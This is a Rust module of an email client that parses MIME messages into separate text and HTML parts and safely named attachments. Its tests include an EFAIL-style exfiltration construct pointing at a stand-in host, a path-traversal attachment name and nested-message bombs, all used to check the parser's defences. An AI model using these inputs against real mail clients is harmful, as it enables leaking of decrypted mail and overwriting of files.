//! A whole message: the parts to read, and what is attached.

use std::collections::HashSet;
use std::panic::{AssertUnwindSafe, catch_unwind};

use mail_parser::{Message, MessageParser, MessagePart, MimeHeaders, PartType};

use super::attached::attached;
use super::attachment::{ParsedAttachment, make_unique, safe_file_name};
use super::authentication::{Authentication, authentications};
use super::eight_bit;
use super::excerpt;
use super::file_kind::file_kind;
use super::flowed::unflow;
use super::invitation::invitation;
use super::packing::{Packing, packings};
use super::parse::{self, ParsedHeader, header_of};
use super::{MAX_MESSAGE, ParseError};
use crate::domain::{HeldText, Invitation};

/// Most attachments that are listed.
const MAX_ATTACHMENTS: usize = 1000;
/// Most octets of one readable part; the rest is cut off with a mark.
const MAX_TEXT: usize = 4 * 1024 * 1024;
/// What stands where a text was cut off.
const CUT: &str = "\n[…]";
/// Most readable parts.
pub(super) const MAX_BODIES: usize = 50;
/// Messages inside messages that are followed. Each level costs stack when the parsed message is
/// dropped; 20,000 levels in a megabyte ended the process.
const MAX_NESTED: usize = 100;

/// One part that a person reads. Parts are shown one after the other and never joined: joining
/// them is how encrypted text was smuggled into a stranger's HTML (EFAIL).
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum BodyPart {
    /// Plain text, lines ended by `\n`, format=flowed undone.
    Text(String),
    /// HTML, as it came.
    Html(String),
}

/// A message as it is read.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct ParsedMessage {
    /// Its header.
    pub header: ParsedHeader,
    /// What to read, in order: plain text where the sender wrote any, else HTML.
    /// [`crate::render::readable`] makes one text of it.
    pub body: Vec<BodyPart>,
    /// The first HTML part, where there is one, whether or not there is plain text too.
    pub html: Option<String>,
    /// What is attached.
    pub attachments: Vec<ParsedAttachment>,
    /// What servers found out about where it comes from, where only one's own can have written it.
    pub authentications: Vec<Authentication>,
    /// The meeting that it is about.
    pub invitation: Option<Invitation>,
    /// What it is packed in.
    pub packings: Vec<Packing>,
    /// Does it hold parts whose encoding was damaged?
    pub damaged: bool,
    /// Has it several fields From, of which RFC 5322 3.6 allows one? Programs differ in which they show.
    pub has_several_from: bool,
    /// Does it hold more than is read: parts, files, people, or the end of a text?
    pub is_partial: bool,
}

impl ParsedMessage {
    /// Is there anything to save besides the pictures of the text?
    #[must_use]
    pub fn has_attachment(&self) -> bool {
        self.attachments.iter().any(|attachment| !attachment.inline)
    }
}

/// Reads a message. It takes time in proportion to its size: call it off the tokio threads.
///
/// # Errors
/// [`ParseError`] when the message is too large, too deep, or defeats the parser.
pub fn parse_message(raw: &[u8]) -> Result<ParsedMessage, ParseError> {
    with_parsed(raw, |message| Ok(read(message)))
}

/// Reads what is held of a message, an excerpt like the message: its attachments bear their true sizes, and
/// a text that goes on has a mark at its end.
///
/// # Errors
/// As [`parse_message`].
pub fn parse_held(held: &HeldText) -> Result<ParsedMessage, ParseError> {
    let excerpt = match held {
        HeldText::Whole(raw) => return parse_message(raw),
        HeldText::Excerpt(excerpt) => excerpt,
    };
    with_parsed(&excerpt.raw, |message| {
        let mut parsed = read(message);
        let numbers = excerpt::numbers(message);
        let left_out = |id: u32| {
            let number = numbers.get(&id)?;
            excerpt.left_out.iter().find(|left| left.part == *number)
        };
        for (attachment, id) in parsed.attachments.iter_mut().zip(&message.attachments) {
            if let Some(left) = left_out(*id) {
                attachment.size = left.size;
                attachment.is_left_out = true;
            }
        }
        // In their order, of which each that is read makes one.
        let is_read = |id: &&u32| {
            let body = message.part(**id).map(|part| &part.body);
            matches!(body, Some(PartType::Text(_) | PartType::Html(_)))
        };
        let read = message.text_body.iter().filter(is_read);
        for (part, id) in parsed.body.iter_mut().zip(read) {
            let goes_on = left_out(*id).is_some_and(|left| left.is_cut_text);
            if let (true, BodyPart::Text(text)) = (goes_on, part) {
                text.push_str(CUT);
            }
        }
        Ok(parsed)
    })
}

/// The first own words of a text, for a list: without quotes, the lines that announce them and
/// the signature; at most 200 characters in one line.
#[must_use]
pub fn preview(text: &str) -> String {
    const MAX: usize = 200;
    let text = text
        .get(..text.floor_char_boundary(16 * 1024))
        .unwrap_or(text);
    let mut preview = String::new();
    let mut blocks = super::fold(text).into_iter().peekable();
    while let Some(block) = blocks.next() {
        let super::Block::Text(own) = block else {
            continue;
        };
        let announces = matches!(blocks.peek(), Some(super::Block::Quote { .. }));
        let own = if announces {
            without_announcement(&own)
        } else {
            &own
        };
        for word in own.split_whitespace() {
            // Rows of characters that only draw lines say nothing.
            if word.chars().count() > 4 && !word.chars().any(char::is_alphanumeric) {
                continue;
            }
            if preview.len() > MAX * 4 {
                break;
            }
            if !preview.is_empty() {
                preview.push(' ');
            }
            preview.push_str(word);
        }
    }
    parse::clean(&preview, MAX)
}

/// A text without the last paragraph, if that ends in a colon: "On Monday, Kim wrote:".
fn without_announcement(text: &str) -> &str {
    let text = text.trim_end();
    if !text.ends_with(':') {
        return text;
    }
    let start = text.rfind("\n\n").unwrap_or(0);
    text.get(..start).unwrap_or_default()
}

pub(super) fn with_parsed<T>(
    raw: &[u8],
    read: impl FnOnce(&Message<'_>) -> Result<T, ParseError>,
) -> Result<T, ParseError> {
    if raw.len() > MAX_MESSAGE {
        return Err(ParseError::TooLarge);
    }
    if nested_messages(raw) > MAX_NESTED {
        return Err(ParseError::TooDeep);
    }
    catch_unwind(AssertUnwindSafe(|| {
        MessageParser::default()
            .parse(raw)
            .filter(|message| !message.parts.is_empty())
            .ok_or(ParseError::Damaged)
            .and_then(|mut message| {
                eight_bit::put_back(&mut message);
                read(&message)
            })
    }))
    .unwrap_or(Err(ParseError::Damaged))
}

/// How often the raw text may open a message inside a message, at most: each one needs a
/// Content-Type that says so, however it is written. Such lines in a text count too.
fn nested_messages(raw: &[u8]) -> usize {
    const NAME: &[u8] = b"content-type";
    const OPENERS: [&[u8]; 3] = [b"rfc822", b"global", b"digest"];
    let opens = |line: &[u8]| {
        OPENERS.iter().any(|opener| {
            line.windows(opener.len())
                .any(|found| found.eq_ignore_ascii_case(opener))
        })
    };
    let mut count = 0;
    let mut in_field = false;
    for line in raw.split(|byte| *byte == b'\n') {
        let folded = line.first().is_some_and(|byte| b" \t".contains(byte));
        in_field = if folded {
            in_field
        } else {
            line.get(..NAME.len())
                .is_some_and(|name| name.eq_ignore_ascii_case(NAME))
        };
        if in_field && opens(line) {
            count += 1;
            if count > MAX_NESTED {
                break;
            }
        }
    }
    count
}

fn read(message: &Message<'_>) -> ParsedMessage {
    let mut body: Vec<BodyPart> = message
        .text_body
        .iter()
        .filter_map(|id| message.part(*id))
        .filter_map(body_part)
        .take(MAX_BODIES)
        .collect();
    let html = message
        .html_body
        .iter()
        .filter_map(|id| message.part(*id))
        .find_map(|part| match &part.body {
            PartType::Html(html) => Some(bounded(html)),
            _ => None,
        });
    // Some senders put an empty text part beside their HTML.
    let is_nothing =
        |part: &BodyPart| matches!(part, BodyPart::Text(text) if text.trim().is_empty());
    if body.iter().all(is_nothing)
        && let Some(html) = &html
    {
        body = vec![BodyPart::Html(html.clone())];
    }
    let invitation = invitation(message);
    // What is said about a meeting is the text of a mail that has none.
    let nothing = html.is_none() && body.iter().all(is_nothing);
    let said = invitation
        .as_ref()
        .and_then(|meeting| meeting.description.clone());
    if let Some(description) = said.filter(|_| nothing) {
        body = vec![BodyPart::Text(description)];
    }
    let header = header_of(message);
    let is_partial = header.is_partial || holds_more(message);
    let mut taken = HashSet::new();
    let attachments = attached(message)
        .take(MAX_ATTACHMENTS)
        .enumerate()
        .map(|(index, part)| describe(index, part, message, &mut taken))
        .collect();
    ParsedMessage {
        header,
        authentications: authentications(message),
        invitation,
        packings: packings(message, &body),
        body,
        html,
        attachments,
        damaged: message.parts.iter().any(|part| part.is_encoding_problem),
        has_several_from: message.header_values(mail_parser::HeaderName::From).count() > 1,
        is_partial,
    }
}

/// Are there more parts to read, more files, or longer texts than are taken?
fn holds_more(message: &Message<'_>) -> bool {
    let is_long = |id: &u32| match message.part(*id).map(|part| &part.body) {
        Some(PartType::Text(text) | PartType::Html(text)) => text.len() > MAX_TEXT,
        _ => false,
    };
    let is_read = |id: &&u32| {
        let body = message.part(**id).map(|part| &part.body);
        matches!(body, Some(PartType::Text(_) | PartType::Html(_)))
    };
    message.attachments.len() > MAX_ATTACHMENTS
        || [&message.text_body, &message.html_body]
            .into_iter()
            .any(|ids| {
                let mut read = ids.iter().filter(is_read);
                read.by_ref().take(MAX_BODIES).any(is_long) || read.next().is_some()
            })
}

pub(super) fn body_part(part: &MessagePart<'_>) -> Option<BodyPart> {
    match &part.body {
        PartType::Html(html) => Some(BodyPart::Html(bounded(html))),
        PartType::Text(text) => {
            let text = normal_lines(&bounded(text));
            let attribute = |name: &str, value: &str| {
                part.content_type()
                    .and_then(|t| t.attribute(name))
                    .is_some_and(|v| v.eq_ignore_ascii_case(value))
            };
            Some(BodyPart::Text(if attribute("format", "flowed") {
                unflow(&text, attribute("delsp", "yes"))
            } else {
                text
            }))
        }
        _ => None,
    }
}

fn bounded(text: &str) -> String {
    if text.len() <= MAX_TEXT {
        return text.to_owned();
    }
    let cut = text
        .get(..text.floor_char_boundary(MAX_TEXT))
        .unwrap_or_default();
    format!("{cut}{CUT}")
}

/// `\n` at the end of every line, no NUL and no other control characters but tab.
fn normal_lines(text: &str) -> String {
    let mut normal = String::with_capacity(text.len());
    let mut rest = text;
    // What stands between two of them is taken over as a whole.
    while let Some((run, behind)) = rest
        .find(|c: char| c.is_control() && !matches!(c, '\n' | '\t'))
        .and_then(|at| rest.split_at_checked(at))
    {
        normal.push_str(run);
        let mut behind = behind.chars();
        let control = behind.next();
        rest = behind.as_str();
        if control == Some('\r') {
            normal.push('\n');
            rest = rest.strip_prefix('\n').unwrap_or(rest);
        }
    }
    normal.push_str(rest);
    normal
}

/// The octets it begins with, as far as they are here.
pub(super) fn beginning<'m>(part: &'m MessagePart<'_>) -> &'m [u8] {
    match &part.body {
        PartType::Text(text) | PartType::Html(text) => text.as_bytes(),
        PartType::Binary(bytes) | PartType::InlineBinary(bytes) => bytes,
        PartType::Message(_) | PartType::Multipart(_) => &[],
    }
}

fn size(part: &MessagePart<'_>) -> usize {
    match &part.body {
        PartType::Message(message) => message.raw_message().len(),
        _ => part.contents().len(),
    }
}

/// The `Content-ID` without brackets.
pub(super) fn content_id(part: &MessagePart<'_>) -> Option<String> {
    part.content_id()
        .map(|id| parse::clean(id.trim_matches(['<', '>']), 200))
        .filter(|id| !id.is_empty())
}

fn describe(
    index: usize,
    part: &MessagePart<'_>,
    message: &Message<'_>,
    taken: &mut HashSet<String>,
) -> ParsedAttachment {
    let media_type = part.content_type().map_or_else(
        || "application/octet-stream".to_owned(),
        |t| {
            let subtype = t.subtype().unwrap_or("octet-stream");
            parse::clean(&format!("{}/{subtype}", t.ctype()), 127).to_lowercase()
        },
    );
    let content_id = content_id(part);
    let extension = extension_of(&media_type);
    let fallback = format!("attachment-{}{extension}", index + 1);
    let given = match (part.attachment_name(), &part.body) {
        (Some(name), _) => name.to_owned(),
        (None, PartType::Message(inner)) => inner
            .subject()
            .map(|subject| format!("{}.eml", subject.replace(['/', '\\'], "_")))
            .unwrap_or_default(),
        (None, _) => String::new(),
    };
    let is_attached = part
        .content_disposition()
        .is_some_and(mail_parser::ContentType::is_attachment);
    let is_picture_of_html =
        content_id.is_some() && !message.html_body.is_empty() && media_type.starts_with("image/");
    let name = make_unique(safe_file_name(&given, &fallback), taken);
    ParsedAttachment {
        index,
        kind: file_kind(&name, beginning(part)),
        name,
        size: size(part) as u64,
        is_left_out: false,
        inline: !is_attached && is_picture_of_html,
        media_type,
        content_id,
    }
}

/// The usual extension, for the few types that come without a name.
fn extension_of(media_type: &str) -> &'static str {
    match media_type {
        "text/plain" => ".txt",
        "text/html" => ".html",
        "text/calendar" => ".ics",
        "text/vcard" => ".vcf",
        "text/csv" => ".csv",
        "message/rfc822" | "message/global" => ".eml",
        "message/delivery-status" => ".txt",
        "application/pdf" => ".pdf",
        "image/png" => ".png",
        "image/jpeg" => ".jpg",
        "image/gif" => ".gif",
        _ => "",
    }
}

#[cfg(test)]
mod tests {
    use super::super::attached::attachment_bytes;
    use super::*;
    use proptest::prelude::*;

    fn crlf(text: &str) -> Vec<u8> {
        text.replace('\n', "\r\n").into_bytes()
    }

    fn parsed(text: &str) -> ParsedMessage {
        parse_message(&crlf(text)).unwrap()
    }

    fn text(t: &str) -> BodyPart {
        BodyPart::Text(t.into())
    }

    const MIXED: &str = "From: a@b.test\nSubject: x\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=o\n\n\
        --o\nContent-Type: multipart/alternative; boundary=i\n\n\
        --i\nContent-Type: text/plain\n\nHello\n\
        --i\nContent-Type: text/html\n\n<b>Hello</b><img src=cid:logo>\n--i--\n\
        --o\nContent-Type: image/png\nContent-ID: <logo>\nContent-Transfer-Encoding: base64\n\niVBORw0KGgo=\n\
        --o\nContent-Type: application/pdf; name=\"../../offer.pdf\"\nContent-Disposition: attachment; filename=\"../../offer.pdf\"\nContent-Transfer-Encoding: base64\n\nJVBERi0=\n\
        --o\nContent-Type: text/plain\nContent-Disposition: attachment; filename*=utf-8''offer%2Epdf\n\nnot a pdf\n\
        --o--\n";

    #[test]
    fn the_parts_of_a_common_message() {
        let message = parsed(MIXED);
        assert_eq!(message.body.first(), Some(&text("Hello")));
        assert_eq!(
            message.html.as_deref(),
            Some("<b>Hello</b><img src=cid:logo>")
        );
        let names: Vec<_> = message
            .attachments
            .iter()
            .map(|a| a.name.as_str())
            .collect();
        assert_eq!(names, ["attachment-1.png", "offer.pdf", "offer (2).pdf"]);
        let logo = &message.attachments[0];
        assert!(logo.inline && logo.content_id.as_deref() == Some("logo"));
        assert_eq!(message.attachments[1].size, 5);
        assert!(message.has_attachment());
        assert_eq!(attachment_bytes(&crlf(MIXED), 1).unwrap(), b"%PDF-");
        assert_eq!(
            attachment_bytes(&crlf(MIXED), 9),
            Err(ParseError::NoSuchAttachment)
        );
    }

    #[test]
    fn html_alone_or_beside_an_empty_text_is_what_is_read() {
        let html = vec![BodyPart::Html("<p>Hi</p>".into())];
        assert_eq!(parsed("Content-Type: text/html\n\n<p>Hi</p>").body, html);
        let both = "Content-Type: multipart/alternative; boundary=i\n\n--i\nContent-Type: text/plain\n\n \n--i\nContent-Type: text/html\n\n<p>Hi</p>\n--i--\n";
        assert_eq!(parsed(both).body, html);
    }

    #[test]
    fn parts_are_never_joined() {
        // The EFAIL construct: an image tag left open, an encrypted part, the tag's end.
        let raw = "Content-Type: multipart/mixed; boundary=o\n\n\
            --o\nContent-Type: text/html\n\n<img src=\"http://evil.test/\n\
            --o\nContent-Type: text/plain\n\nthe secret\n\
            --o\nContent-Type: text/html\n\n\">\n--o--\n";
        assert_eq!(
            parsed(raw).body,
            [
                BodyPart::Html("<img src=\"http://evil.test/".into()),
                text("the secret"),
                BodyPart::Html("\">".into())
            ]
        );
    }

    #[test]
    fn flowed_text_and_odd_line_ends_are_straightened() {
        let flowed = "Content-Type: text/plain; format=flowed\n\nOne \ntwo\n";
        assert_eq!(parsed(flowed).body, [text("One two\n")]);
        let message = parse_message(b"Subject: x\r\n\r\na\rb\0c\x1bd\r\ne").unwrap();
        assert_eq!(message.body, [text("a\nbcd\ne")]);
    }

    #[test]
    fn charsets_are_decoded() {
        let raw =
            b"Content-Type: text/plain; charset=windows-1252\r\n\r\nGr\xfc\xdfe \x80".to_vec();
        assert_eq!(parse_message(&raw).unwrap().body, [text("Grüße €")]);
    }

    #[test]
    fn a_message_inside_is_an_attachment() {
        let raw = "Subject: out\nContent-Type: multipart/mixed; boundary=o\n\n\
            --o\nContent-Type: text/plain\n\nsee below\n\
            --o\nContent-Type: message/rfc822\n\nSubject: in/side\nFrom: kim@b.test\n\ninner\n--o--\n";
        let message = parsed(raw);
        assert_eq!(message.body, [text("see below")]);
        assert_eq!(message.header.subject, "out");
        let inner = &message.attachments[0];
        assert_eq!(
            (inner.name.as_str(), inner.media_type.as_str()),
            ("in_side.eml", "message/rfc822")
        );
        let bytes = attachment_bytes(&crlf(raw), 0).unwrap();
        assert_eq!(parse_message(&bytes).unwrap().header.subject, "in/side");
        assert_eq!(bytes.len() as u64, inner.size);
    }

    #[test]
    fn bombs_are_refused_or_read_in_time() {
        let mut nested = String::new();
        for _ in 0..20_000 {
            nested.push_str("Content-Type: message/rfc822\r\n\r\n");
        }
        assert_eq!(parse_message(nested.as_bytes()), Err(ParseError::TooDeep));
        for opener in [
            "CONTENT-TYPE : Message (c) /(c)\r\n RFC822\r\n\r\n",
            "Content-Type: message/global\r\n\r\n",
            "Content-Type: multipart/digest; boundary=a\r\n\r\n--a\r\n\r\n",
        ] {
            let nested = opener.repeat(20_000);
            assert_eq!(parse_message(nested.as_bytes()), Err(ParseError::TooDeep));
        }
        let mut multipart = String::new();
        for i in 0..20_000 {
            multipart.push_str(&format!(
                "Content-Type: multipart/mixed; boundary=b{i}\r\n\r\n--b{i}\r\n"
            ));
        }
        let _ = parse_message(multipart.as_bytes());
        let many = format!(
            "Content-Type: multipart/mixed; boundary=o\r\n\r\n{}",
            "--o\r\nContent-Type: application/x; name=a\r\n\r\nx\r\n".repeat(20_000)
        );
        let message = parse_message(many.as_bytes()).unwrap();
        assert_eq!(message.attachments.len(), MAX_ATTACHMENTS);
        assert_eq!(parse_message(b""), Err(ParseError::Damaged));
    }

    #[test]
    fn as_deep_as_it_is_allowed_can_be_dropped() {
        let mut nested = String::from("Subject: top\r\n");
        for _ in 0..MAX_NESTED {
            nested.push_str("Content-Type: message/rfc822\r\n\r\n");
        }
        // The stack of a tokio worker.
        let small = std::thread::Builder::new().stack_size(2 * 1024 * 1024);
        let thread =
            small.spawn(move || parse_message(nested.as_bytes()).map(|m| m.header.subject));
        assert_eq!(thread.unwrap().join().unwrap().unwrap(), "top");
    }

    #[test]
    fn the_preview_is_the_first_own_words() {
        let text = "Hi team,\n\n----------\nthe printer burns.\n\nOn Monday Kim wrote:\n> old\n> words\n-- \nKim";
        assert_eq!(preview(text), "Hi team, the printer burns.");
        assert_eq!(preview(&"ä ".repeat(1000)).chars().count(), 199);
        assert_eq!(preview(""), "");
    }

    proptest! {
        #[test]
        fn no_bytes_defeat_it(bytes in prop::collection::vec(any::<u8>(), 0..400), head in "(Content-Type: (multipart/mixed; boundary=a|message/rfc822|text/plain; charset=utf-7|image/png)\r\n)?(Content-Transfer-Encoding: (base64|quoted-printable)\r\n)?\r\n(--a\r\n)?") {
            let mut raw = head.into_bytes();
            raw.extend(bytes);
            if let Ok(message) = parse_message(&raw) {
                for attachment in &message.attachments {
                    let bytes = attachment_bytes(&raw, attachment.index).unwrap();
                    prop_assert_eq!(bytes.len() as u64, attachment.size);
                    prop_assert!(!attachment.name.is_empty());
                }
            }
        }
    }
}
